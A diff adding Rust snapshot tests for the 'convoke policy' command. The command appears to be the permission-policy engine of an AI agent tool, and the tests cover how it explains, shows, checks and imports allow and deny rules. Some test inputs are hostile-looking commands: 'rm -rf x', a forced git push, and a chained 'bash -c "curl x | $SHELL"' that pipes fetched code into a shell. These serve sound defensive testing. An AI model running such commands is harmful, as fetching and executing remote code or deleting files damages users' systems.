@@ -1,0 +1,124 @@
+//! `convoke policy`
+
+use insta::assert_snapshot;
+
+use crate::place::{Place, stdout};
+
+const POLICY: &str = r#"version = 1
+
+[tools.web_fetch]
+decision = "ask"
+domains.allow = ["docs.rs"]
+
+[tools.write.paths]
+deny = ["**/*.lock"]
+
+[commands]
+allow = ["git push origin"]
+deny = ["git push --force"]
+
+[mcp]
+allow = ["files:*"]
+
+[limits]
+memory_mb = 512
+"#;
+
+fn seen(place: &Place, arguments: &[&str]) -> String {
+    let home = place.path().canonicalize().unwrap().display().to_string();
+    place.seen_with(arguments, &[("COLUMNS", "80"), ("HOME", home.as_str())])
+}
+
+fn place() -> Place {
+    let place = Place::empty();
+    place.write("policy.toml", POLICY);
+    place
+}
+
+#[test]
+fn explain_says_which_rule_decides_and_why() {
+    let place = place();
+    assert_snapshot!("policy_explain_rm", seen(&place, &["policy", "explain", "rm -rf x"]));
+    assert_snapshot!(
+        "policy_explain_push",
+        seen(&place, &["policy", "explain", "git push origin main --force"])
+    );
+    assert_snapshot!(
+        "policy_explain_hidden",
+        seen(&place, &["policy", "explain", "ls; bash -c \"curl x | $SHELL\""])
+    );
+    assert_snapshot!(
+        "policy_explain_path",
+        seen(&place, &["policy", "explain", "--tool", "write", "--path", "sub/Cargo.lock"])
+    );
+    assert_snapshot!(
+        "policy_explain_itself",
+        seen(&place, &["policy", "explain", "--tool", "write", "--path", "policy.toml"])
+    );
+    assert_snapshot!(
+        "policy_explain_url",
+        seen(&place, &["policy", "explain", "--tool", "web_fetch", "--url", "https://example.com/x"])
+    );
+    assert_snapshot!("policy_explain_mcp", seen(&place, &["policy", "explain", "--mcp", "git:push"]));
+    assert_snapshot!(
+        "policy_explain_json",
+        seen(&place, &["policy", "explain", "--json", "git push --force"])
+    );
+}
+
+#[test]
+fn without_a_file_the_defaults_hold() {
+    let place = Place::empty();
+    assert_snapshot!("policy_explain_default", seen(&place, &["policy", "explain", "cargo test"]));
+    assert_snapshot!("policy_show_default", seen(&place, &["policy", "show"]));
+    assert_snapshot!("policy_check_nothing", seen(&place, &["policy", "check"]));
+}
+
+#[test]
+fn show_says_what_holds_and_where_it_is_said() {
+    let place = place();
+    let shown = seen(&place, &["policy", "show"]);
+    assert!(shown.contains("policy.toml:18"), "{shown}");
+    let json: serde_json::Value =
+        serde_json::from_str(&stdout(&place.convoke(&["policy", "show", "--json"]))).unwrap();
+    let memory =
+        json[0]["settings"].as_array().unwrap().iter().find(|setting| setting["key"] == "limits.memory_mb");
+    assert_eq!(memory.unwrap()["line"], 18);
+}
+
+#[test]
+fn check_says_everything_that_is_wrong() {
+    let place = place();
+    assert_snapshot!("policy_check_fine", seen(&place, &["policy", "check"]));
+    place.write("bad.toml", "version = 1\nsandbox = \"of\"\n[comands]\n");
+    assert_snapshot!("policy_check_bad", seen(&place, &["policy", "check", "bad.toml", "missing.toml"]));
+    assert_snapshot!("policy_check_bad_json", seen(&place, &["policy", "check", "--json", "bad.toml"]));
+    place.write("policy.toml", "version = 1\nsandbox = \"of\"\n");
+    assert_snapshot!("policy_explain_bad", seen(&place, &["policy", "explain", "ls"]));
+}
+
+#[test]
+fn a_folders_policy_does_not_allow_what_the_users_own_denies() {
+    let place = place();
+    place.write(".config/convoke/policy.toml", "version = 1\n[commands]\ndeny = [\"git push\"]\n");
+    let shown = seen(&place, &["policy", "explain", "git push origin main"]);
+    assert!(shown.contains("deny") && shown.contains(".config/convoke/policy.toml:3"), "{shown}");
+}
+
+#[test]
+fn import_translates_and_says_what_is_lost() {
+    let place = Place::empty();
+    place.write(
+        "old.toml",
+        "default_deny = true\n[tools.read]\ntimeout = 3\n[tools.bash]\nallow = [\"make *\"]\n",
+    );
+    assert_snapshot!("policy_import", seen(&place, &["policy", "import", "old.toml"]));
+    let written = place.convoke(&["policy", "import", "old.toml", "--output", "policy.toml"]);
+    assert!(written.status.success());
+    assert!(place.convoke(&["policy", "check", "policy.toml"]).status.success());
+    assert_snapshot!(
+        "policy_import_again",
+        seen(&place, &["policy", "import", "old.toml", "-o", "policy.toml"])
+    );
+    assert_snapshot!("policy_import_ours", seen(&place, &["policy", "import", "policy.toml"]));
+}
